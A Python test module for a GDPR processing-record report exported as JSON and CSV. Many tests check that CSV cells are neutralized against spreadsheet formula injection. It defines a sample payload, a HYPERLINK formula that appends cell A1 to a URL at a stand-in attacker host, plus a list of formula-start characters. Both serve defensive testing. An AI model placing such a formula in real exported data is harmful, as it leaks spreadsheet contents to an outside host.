"""The record as JSON and as CSV: what the contract promises, and nothing a spreadsheet runs."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from chalicelib.notices.compiler import load_published
from chalicelib.notices.contract.processing import CSV, PROCESSING
from chalicelib.notices.model import Notice
from chalicelib.notices.processing import activities, report_csv, report_json
from chalicelib.notices.processing.table import safe
from chalicelib.web import negotiation
from chalicelib.web.answer import Answer
from chalicelib.web.contract import JSON
from chalicelib.web.respond import response
from chalicelib.web.wiring import wired
from tests.unit.core.samples import association, association_document, shipped
from tests.unit.rendering.conftest import poisoned

CASES = [(shipped, "it"), (shipped, "en"), (association, "en")]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"look")'


def rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline=""), strict=True))


@pytest.mark.parametrize(("notice", "locale"), CASES)
def test_json_is_what_the_contract_promises(notice: Any, locale: str) -> None:
    schema = PROCESSING.answers[200].schema
    assert schema is not None
    record = json.loads(report_json(notice(), locale))
    Draft202012Validator(schema).validate(record)
    assert (record["version"], record["digest"]) == (notice().version, notice().digest)
    assert record["locale"] == locale
    assert [one["purpose"] for one in record["activities"]] == list(notice().purposes)


def test_the_contract_is_closed() -> None:
    schema = PROCESSING.answers[200].schema
    assert schema is not None
    record = json.loads(report_json(association(), "en"))
    record["activities"][0]["recipients"][0]["more"] = True
    assert not Draft202012Validator(schema).is_valid(record)


def test_the_contract_serves_staff_both_forms() -> None:
    assert PROCESSING.media_types == (JSON, CSV)
    assert (PROCESSING.method, PROCESSING.path) == ("GET", "/v1/desk/reports/processing")
    assert PROCESSING.auth.value == "staff"


@pytest.mark.parametrize(
    ("accept", "kind"),
    [
        (None, JSON),
        ("*/*", JSON),
        ("text/csv", CSV),
        ("text/*", CSV),
        ("application/json;q=0.5, text/csv", CSV),
        ("text/html", None),
    ],
)
def test_the_form_is_negotiated(accept: str | None, kind: str | None) -> None:
    assert negotiation.media_type(accept, PROCESSING.media_types) == kind


def test_csv_is_sent_as_it_was_written(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(wired(), "origins", frozenset)
    body = report_csv(shipped(), "it")
    sent = response(Answer(200, body, {"Content-Language": "it"}, CSV), {"headers": {}}, "")
    assert sent.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert str(sent.body).encode() == body


def test_json_tells_what_all_activities_share_once() -> None:
    record = json.loads(report_json(shipped(), "it"))
    assert record["controller"]["name"] == "Kaveripoint"
    assert record["controller"]["dpo"]["text"] == "Non indicato dal titolare."
    assert len(record["security"]) == len(shipped().document["security"])
    assert "controller/dpo" in record["unconfirmed"]
    assert not [name for name in record["unconfirmed"] if name.startswith("purposes/")]
    assert json.loads(report_json(association(), "en"))["controller"]["representative"] is None


@pytest.mark.parametrize(("notice", "locale"), CASES)
def test_csv_has_a_row_for_each_activity(notice: Any, locale: str) -> None:
    head, *body = rows(report_csv(notice(), locale))
    assert len(body) == len(notice().purposes)
    assert {len(row) for row in body} == {len(head)} == {13}
    titles = [one.title for one in activities(notice(), locale)]
    assert [row[4].startswith(f"{title}: ") for row, title in zip(body, titles, strict=True)] == [
        True
    ] * len(body)
    assert all(cell for row in body for n, cell in enumerate(row) if n not in (2, 3, 12))


def test_csv_is_rfc_4180_in_plain_utf_8() -> None:
    body = report_csv(shipped(), "it")
    assert not body.startswith(b"\xef\xbb\xbf")
    assert body.count(b"\n") == body.count(b"\r\n") == len(shipped().purposes) + 1
    assert body.endswith(b"\r\n")


@pytest.mark.parametrize(
    ("locale", "first", "last"),
    [
        ("it", "Versione", "Da confermare"),
        ("en", "Version", "To confirm"),
    ],
)
def test_the_header_row_is_in_the_language(locale: str, first: str, last: str) -> None:
    head = rows(report_csv(shipped(), locale))[0]
    assert (head[0], head[-1]) == (first, last)
    assert len(set(head)) == len(head)


def test_cells_read_like_sentences() -> None:
    head, membership, *_ = rows(report_csv(association(), "en"))
    row = dict(zip(head, membership, strict=True))
    assert row["Legal basis"] == "contract (GDPR Article 6(1)(b))"
    assert row["Categories of data subjects"] == "people with an account; visitors to the site"
    assert row["Recipients"] == (
        "Kilkenny County Council (controller, Ireland), receives only: Full name and Plot number; "
        "Our web host (processor, Ireland and Switzerland)"
    )
    assert row["Transfers outside the European Economic Area"] == (
        "Our web host (Switzerland): adequacy decision (GDPR Article 45). "
        "Commission Decision 2000/518/EC on Switzerland"
    )
    assert row["Envisaged time limits for erasure"] == (
        "Membership: Your profile 1 year from when it ends (erased), "
        "A request of yours 2 years from closing (erased); "
        "Your plot: For as long as you hold the plot, and one season more"
    )
    assert row["To confirm"] == ""


def test_what_is_missing_is_said() -> None:
    head, *body = rows(report_csv(association(), "en"))
    water = dict(zip(head, body[2], strict=True))
    assert water["Recipients"] == "nobody"
    assert water["Transfers outside the European Economic Area"] == (
        "no transfer outside the European Economic Area"
    )
    document = association_document()
    document["categories"].append({**document["categories"][1], "id": "weather"})
    document["purposes"][2]["categories"] = ["weather"]
    body = rows(report_csv(load_published(document), "en"))[1:]
    assert body[2][6] == "not stated by the controller"


@pytest.mark.parametrize("start", DANGEROUS)
def test_no_cell_begins_like_a_formula(start: str) -> None:
    cell = safe(f"{start}1+2")
    assert not cell.startswith(DANGEROUS)
    assert cell.endswith("1+2")


def test_what_is_no_formula_stays_as_it_is() -> None:
    assert safe("1 + 2 = 3, e-mail: a@b.example") == "1 + 2 = 3, e-mail: a@b.example"
    assert safe("") == ""


@given(st.text(max_size=40))
def test_whatever_the_text_its_cell_is_one_safe_line(text: str) -> None:
    cell = safe(text)
    assert not cell.startswith(DANGEROUS)
    assert "\n" not in cell
    assert "\r" not in cell


SEPARATED = [";=1+2", "a; =1+2", 'a;"=1+2"', "a;;-1+2", 'a; " @1+2', "a;＝1+2", ";+1;=2"]


@pytest.mark.parametrize("text", SEPARATED)
def test_no_cell_is_a_formula_where_rows_are_split_by_semicolons(text: str) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow(["2026-11-22", safe(text), safe(f'"{text}"')])
    for cell in next(csv.reader(io.StringIO(written.getvalue()), delimiter=";")):
        assert not cell.lstrip().startswith(DANGEROUS)


def test_a_semicolon_without_a_formula_stays_as_it_is() -> None:
    assert safe("profile; orders (1 - 2); e-mail") == "profile; orders (1 - 2); e-mail"


@given(st.lists(st.text(alphabet=';"=+-@,a \t', max_size=12), max_size=4))
def test_whatever_the_texts_no_cell_is_a_formula_by_either_separator(texts: list[str]) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow(["2026-11-22", *map(safe, texts)])
    for separator in (",", ";"):
        for cell in next(csv.reader(io.StringIO(written.getvalue()), delimiter=separator)):
            assert not cell.lstrip().startswith(DANGEROUS)


def attacked(value: Any) -> Any:
    """A document whose every text for people begins like a formula."""
    if isinstance(value, dict):
        if value and value.keys() <= {"it", "en"}:
            return dict.fromkeys(value, ATTACK)
        return {name: attacked(inner) for name, inner in value.items()}
    return [attacked(inner) for inner in value] if isinstance(value, list) else value


@pytest.mark.parametrize("spoil", [attacked, poisoned])
def test_a_hostile_notice_makes_no_formula_and_no_further_cell(spoil: Any) -> None:
    document = spoil(dict(shipped().document))
    document["controller"]["name"] = document["controller"]["email"] = f"\t{ATTACK}"
    notice: Notice = load_published(document)
    head, *body = rows(report_csv(notice, "it"))
    assert {len(row) for row in body} == {len(head)}
    assert not [cell for row in (head, *body) for cell in row if cell.startswith(DANGEROUS)]
    assert json.loads(report_json(notice, "it"))["activities"]
